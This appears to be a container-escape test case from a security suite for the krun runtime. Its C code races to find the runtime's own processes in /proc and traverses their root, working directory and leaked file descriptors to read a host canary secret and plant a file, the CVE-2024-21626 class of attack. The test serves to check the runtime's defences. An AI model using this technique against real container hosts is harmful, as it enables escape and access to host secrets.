// Container root looks for krun's own processes on their way to the monitor (during `krun exec`, and during
// `create` into a pid namespace that it shares), and goes through their root, working directory and
// descriptors to the host's files: the class of CVE-2024-21626. Wins by reading the host's secret or by
// making a file beside it.
#include "attack.h"
#include <dirent.h>

enum { FDS = 40 };
static unsigned char seen[1 << 22];

static void try_at(int dir, const char *where, long pid) {
    static const char up[] = "../../../../../../../../../../..";
    char path[2 * PATH_MAX], text[256];
    snprintf(path, sizeof path, "%s/%s%s", where, up, attack_canary("secret"));
    int fd = openat(dir, path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    ssize_t n = read(fd, text, sizeof text - 1);
    text[n < 0 ? 0 : n] = 0;
    char link[256] = "";
    readlinkat(dir, where, link, sizeof link - 1);
    snprintf(path, sizeof path, "%s/%s%s/made", where, up, attack_canary("drop"));
    int made = openat(dir, path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
    attack_won("read %s by /proc/%ld/%s (%s), %s a file", text, pid, where, link,
               made >= 0 ? "made" : "did not make");
}

// A process that was not there when the attack began: looked at for as long as it is on its way.
static void look_at(long pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%ld", pid);
    int dir = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
    for (int round = 0; dir >= 0 && round < 40; round++) {
        if (faccessat(dir, "stat", F_OK, 0) < 0)
            break;
        try_at(dir, "root", pid);
        try_at(dir, "cwd", pid);
        for (int n = 3; n < FDS; n++) {
            snprintf(path, sizeof path, "fd/%d", n);
            try_at(dir, path, pid);
        }
    }
    if (dir >= 0)
        close(dir);
}

static void scan(int first) {
    DIR *proc = opendir("/proc");
    if (!proc)
        attack_broken("/proc");
    for (struct dirent *e; (e = readdir(proc));) {
        long pid = atol(e->d_name);
        if (pid <= 0 || pid >= (long)sizeof seen || seen[pid])
            continue;
        seen[pid] = 1;
        if (!first)
            look_at(pid);
    }
    closedir(proc);
}

int main(void) {
    scan(1);
    while (!attack_over())
        scan(0);
    attack_lost();
}
